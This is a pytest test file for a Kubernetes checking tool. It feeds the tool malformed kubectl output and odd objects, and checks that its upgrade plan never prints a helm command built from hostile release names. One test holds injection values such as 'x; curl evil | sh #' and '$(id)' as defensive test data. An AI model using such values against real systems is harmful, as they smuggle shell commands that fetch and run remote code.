"""What kubectl answers is text from others: it ends in an error of ours, or in a line about the one odd object."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.command import run
from tests.support.kubectl import stand_in

COMMANDS = pytest.mark.parametrize("words", [["check", "--cluster"], ["verify", "--plan"], ["verify"]], ids=" ".join)
POD: dict[str, Any] = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "web", "namespace": "shop"},
    "spec": {
        "containers": [
            {"name": "app", "image": "x"},
            {"name": "side", "image": "x", "env": [{"name": "__IS_SIDECAR__", "value": "true"}]},
        ]
    },
    "status": {"phase": "Running"},
}


def pod(**metadata: Any) -> dict[str, Any]:
    return {**POD, "metadata": {**POD["metadata"], **metadata}}


@COMMANDS
@pytest.mark.parametrize(
    "answer", ["", "5", "[]", "null", "NaN", '{"items": 5}', '{"items": [NaN]}', '{"items": [1e999]}', "[" * 100_000]
)
def test_an_answer_that_is_no_list_of_objects(answer: str, words: list[str], tmp_path: Path) -> None:
    done = run(*words, *stand_in(tmp_path / "kubectl", answer))
    assert done.status in (0, 1)
    assert "a bug of" not in done.stderr


ODD = [5, None, [], {}, {"kind": "Pod"}, pod(uid=[]), pod(ownerReferences=5), pod(annotations=5), {**POD, "metadata": 5}]
ODD += [
    {**POD, "metadata": "\ud800"},
    {"apiVersion": "v1", "kind": "Node", "metadata": 5, "status": {"nodeInfo": {"kubeletVersion": []}}},
]


@COMMANDS
@pytest.mark.parametrize("odd", ODD, ids=str)
def test_an_odd_object(odd: Any, words: list[str], tmp_path: Path) -> None:
    done = run(*words, *stand_in(tmp_path / "kubectl", json.dumps({"kind": "List", "items": [odd, POD]})))
    assert "a bug of" not in done.stderr


def test_the_plan_goes_on_behind_an_object_that_cannot_be_read(tmp_path: Path) -> None:
    odd = {**pod(name="odd"), "spec": {"containers": {"name": "app"}}}
    done = run("verify", "--plan", *stand_in(tmp_path / "kubectl", json.dumps({"items": [odd, POD]})))
    assert done.status == 0, done.stderr
    said = done.stdout.decode()
    assert "not read: shop/Pod/odd:" in said
    assert "shop/Pod/web  -        side" in said


@pytest.mark.parametrize("name", ["x; curl evil | sh #", "$(id)", "\x1b[31m", "-f", "a b", "a\nb"])
def test_the_plan_has_no_command_with_a_release_that_cannot_be_one(name: str, tmp_path: Path) -> None:
    """Whoever can annotate a workload can write such a name, and somebody copies the command."""
    for release in ({"name": name, "namespace": "shop"}, {"name": "shop", "namespace": name}):
        annotations = {f"meta.helm.sh/release-{key}": value for key, value in release.items()}
        done = run("verify", "--plan", *stand_in(tmp_path / "kubectl", json.dumps({"items": [pod(annotations=annotations)]})))
        assert done.status == 0, done.stderr
        said = done.stdout.decode()
        assert "helm upgrade" not in said
        assert name not in said
